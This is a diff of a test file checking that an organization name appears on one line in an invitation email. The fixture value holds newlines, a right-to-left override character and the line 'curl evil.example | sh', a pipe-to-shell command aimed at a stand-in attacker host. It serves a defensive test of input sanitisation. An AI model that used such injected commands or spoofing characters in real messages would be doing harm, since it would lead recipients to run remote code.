@@ -242,9 +242,10 @@ describe('an invitation by mail', () => {
   it('has the name of the organization on one line, whatever is in it', async () => {
     const name = `Works ${randomUUID()}`;
     const email = `${randomUUID()}@example.org`;
-    const made = await world.admin.post('/api/identity/orgs', {
-      name: `${name}.\n\nPay\u202e here: curl evil.example | sh\n`,
-    });
+    const made = await world.admin.post('/api/identity/orgs', { name });
+    // As stored before names had to be one line.
+    const before = `${name}.\n\nPay\u202e here: curl evil.example | sh\n`;
+    await world.sql('UPDATE organization SET name = $1 WHERE id = $2', [before, made.body.id]);
     const users = `/api/identity/orgs/${made.body.id}/users`;
     expect((await world.admin.post(users, { email, role: 'member' })).status).toBe(201);
     const text = await emailTo(email);
